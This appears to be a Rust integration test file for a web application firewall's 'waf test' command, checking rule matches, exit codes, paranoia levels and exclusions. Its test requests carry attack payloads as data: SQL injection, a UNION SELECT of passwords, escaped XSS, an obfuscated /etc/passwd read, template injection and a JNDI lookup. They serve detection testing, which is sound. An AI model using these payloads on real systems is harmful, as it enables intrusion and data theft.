//! `spinforge waf test`: the real binary, run on strings and raw requests.

use std::io::Write;
use std::process::{Command, Output, Stdio};

fn waf_test(args: &[&str], stdin: Option<&[u8]>) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_spinforge"))
        .arg("waf")
        .arg("test")
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spinforge starts");
    let mut pipe = child.stdin.take().expect("stdin is piped");
    pipe.write_all(stdin.unwrap_or_default())
        .expect("stdin accepts input");
    drop(pipe);
    child.wait_with_output().expect("spinforge exits")
}

fn json(out: &Output) -> serde_json::Value {
    serde_json::from_slice(&out.stdout).expect("--json prints JSON")
}

#[test]
fn an_injection_string_is_reported_with_rule_fingerprint_and_exit_1() {
    let out = waf_test(&["1' OR '1'='1"], None);
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("2001"), "{text}");
    assert!(text.contains("fingerprint s&sos"), "{text}");
    assert!(text.contains("would be blocked (403)"), "{text}");
}

#[test]
fn ordinary_text_passes_with_exit_0() {
    let out = waf_test(
        &["Rock 'n' roll & blues; it's O'Brien's band", "--json"],
        None,
    );
    assert_eq!(out.status.code(), Some(0));
    let v = json(&out);
    assert_eq!(v["blocked"], false);
    assert_eq!(v["matches"].as_array().map(Vec::len), Some(0));
}

#[test]
fn a_raw_json_request_from_stdin_is_parsed_and_its_escapes_decoded() {
    let request =
        b"POST /api/items HTTP/1.1\r\nHost: shop.test\r\nContent-Type: application/json\r\n\r\n\
{\"title\":\"ok\",\"note\":\"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\"}";
    let out = waf_test(&["-", "--json"], Some(request));
    assert_eq!(out.status.code(), Some(1));
    let v = json(&out);
    assert_eq!(v["class"], "xss");
    let m = &v["matches"][0];
    assert_eq!(
        (m["location"].as_str(), m["name"].as_str()),
        (Some("JSON"), Some("note"))
    );
}

#[test]
fn exclusions_and_paranoia_change_the_outcome() {
    let out = waf_test(&["<b>hi</b>", "--paranoia", "2", "--json"], None);
    let ids: Vec<u64> = json(&out)["matches"]
        .as_array()
        .expect("matches")
        .iter()
        .filter_map(|m| m["rule"].as_u64())
        .collect();
    assert!(ids.contains(&3008), "{ids:?}");

    let excluded = waf_test(
        &[
            "<b>hi</b>",
            "--paranoia",
            "2",
            "--exclude",
            "3008:q",
            "--json",
        ],
        None,
    );
    assert_eq!(json(&excluded)["matches"].as_array().map(Vec::len), Some(0));
}

#[test]
fn bad_settings_are_refused_naming_the_field() {
    let out = waf_test(&["x", "--paranoia", "9"], None);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("waf.paranoia must be 1 to 4"));
    let out = waf_test(&["x", "--exclude", "9999"], None);
    assert!(String::from_utf8_lossy(&out.stderr).contains("unknown rule id 9999"));
}

#[test]
fn raw_requests_with_attacks_in_path_headers_and_templates_exit_1_at_every_level() {
    let cases: [(&str, &str); 5] = [
        (
            "GET /item/1'%20OR%20'1'='1 HTTP/1.1\r\nHost: a\r\n\r\n",
            "2004",
        ),
        (
            "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ' UNION SELECT password FROM users--\r\n\r\n",
            "2002",
        ),
        (
            "GET /?h=x;c''at%20/e''tc/pa''sswd HTTP/1.1\r\nHost: a\r\n\r\n",
            "5001",
        ),
        (
            "GET /?n={{7*7}}{{config.__class__}} HTTP/1.1\r\nHost: a\r\n\r\n",
            "7001",
        ),
        (
            "GET / HTTP/1.1\r\nHost: a\r\nX-Api-Version: ${jndi:ldap://x/a}\r\n\r\n",
            "7004",
        ),
    ];
    for pl in ["1", "4"] {
        for (request, rule) in cases {
            let out = waf_test(&["--paranoia", pl, "--json", "-"], Some(request.as_bytes()));
            assert_eq!(out.status.code(), Some(1), "PL{pl} {request}");
            let v = json(&out);
            let rules: Vec<String> = v["matches"]
                .as_array()
                .expect("matches")
                .iter()
                .map(|m| m["rule"].to_string())
                .collect();
            assert!(
                rules.iter().any(|r| r == rule),
                "PL{pl} {request}: {rules:?}"
            );
        }
    }
}
